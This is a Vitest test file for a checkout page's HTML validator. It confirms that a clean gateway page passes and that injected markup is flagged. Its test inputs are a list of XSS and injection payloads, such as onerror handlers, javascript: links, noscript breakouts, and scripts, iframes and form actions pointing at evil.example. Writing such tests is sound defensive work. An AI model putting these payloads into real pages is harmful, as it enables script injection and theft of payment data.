import { expect, test } from 'vitest'
import type { PageScript } from '#contract/builtPages'
import { faultsOfHtml, readElements, sha384 } from './html.ts'

const nonce = 'abcdefghijklmnopqrstuv=='
const code = 'const a = "</div>"; a < 1'
const said = { name: '', purpose: '', authorizedBy: '' }
const listed: PageScript[] = [
  { ...said, src: null, integrity: sha384(code) },
  { ...said, src: '/checkout-assets/1111111111111111.js', integrity: sha384('x') },
]
const ours = `<script type="module" nonce="${nonce}" src="/checkout-assets/1111111111111111.js"></script>`
const page = (more: string) =>
  `<!doctype html><html lang="en"><head><style nonce="${nonce}">a>b{}@media (width<30rem){}</style>${ours}<script type="module">${code}</script></head>` +
  `<body data-status="open"><a href="https://shop.example/?a=1&amp;b">5 &lt; 6</a><svg viewBox="0 0 1 1"><path d="M0 0"/></svg>` +
  `<button type="button" disabled>Pay</button><script type="application/json" id="data">{"a":"\\u003c"}</script>${more}</body></html>`

test('a page as the gateway writes it is good, and read to its end', () => {
  expect(faultsOfHtml(page(''), listed, nonce)).toEqual([])
  expect(
    readElements(page(''))
      .elements.map(({ tag }) => tag)
      .join(' '),
  ).toBe('html head style script script body a svg path button script')
})

// What a browser would run or load, in the many ways that one would write it.
test.each([
  ['<script>alert(1)</script>', 'a script stands in it that is not of the build: sha384-'],
  [`<script>${code} </script>`, 'a script stands in it that is not of the build'],
  ['<script src="https://evil.example/x.js"></script>', 'a script was added: <script src="https://evil.example/x.js">'],
  [`<script nonce="${nonce}" src="/checkout-assets/2222222222222222.js"></script>`, 'a script was added'],
  [ours, 'a script is there twice'],
  [ours.replace(nonce, 'zbcdefghijklmnopqrstuv=='), 'has not the nonce of the policy'],
  [`<svg><script href="https://evil.example/x.js">${code}</script></svg>`, 'a script was added'],
  ['<script type="speculationrules">{}</script>', 'a script stands in it'],
  [
    '<script src="https://evil.example/x.js" src="/checkout-assets/1111111111111111.js"></script>',
    'markup that the gateway never writes',
  ],
  ['<script type="module" TYPE="application/json">alert(1)</script>', 'markup that the gateway never writes'],
  ['<p\u00a0class="a"></p>', 'markup that the gateway never writes'],
  ['<SCRIPT>alert(1)</SCRIPT>', 'markup that the gateway never writes: <SCRIPT>'],
  ["<img src='x' onerror='alert(1)'>", 'markup that the gateway never writes'],
  ['<img src=x onerror=alert(1)>', 'markup that the gateway never writes'],
  ['<img/src="x"onerror="alert(1)">', 'markup that the gateway never writes'],
  ['<img alt="" onerror="alert(1)">', 'that the gateway never writes, onerror'],
  ['<p ONCLICK="alert(1)">', 'that the gateway never writes, onclick'],
  ['<!-- <script>alert(1)</script> -->', 'markup that the gateway never writes: <!--'],
  ['<style></noscript><script>alert(1)</script></style>', 'markup that the gateway never writes'],
  ['<svg><style><img alt=""></style></svg>', 'markup that the gateway never writes'],
  ['<script type="application/json"></noscript><img></script>', 'markup that the gateway never writes'],
  [`<script type="application/json" src="https://evil.example/x.js"></script>`, 'a script was added'],
  ['<a href="javascript:alert(1)">x</a>', 'that the gateway never writes, href'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'that the gateway never writes, href'],
  ['<img src="//evil.example/x.png">', 'that the gateway never writes, src'],
  ['<iframe src="https://evil.example/"></iframe>', 'an element was added: <iframe'],
  ['<base href="https://evil.example/">', 'an element was added: <base'],
  ['<form action="https://evil.example/"></form>', 'an element was added: <form'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'an element was added: <link'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'that the gateway never writes, http-equiv'],
  ['<button formaction="https://evil.example/">Pay</button>', 'that the gateway never writes, formaction'],
])('%j is told', (added, told) => {
  expect(faultsOfHtml(page(added), listed, nonce).join('\n')).toContain(told)
})
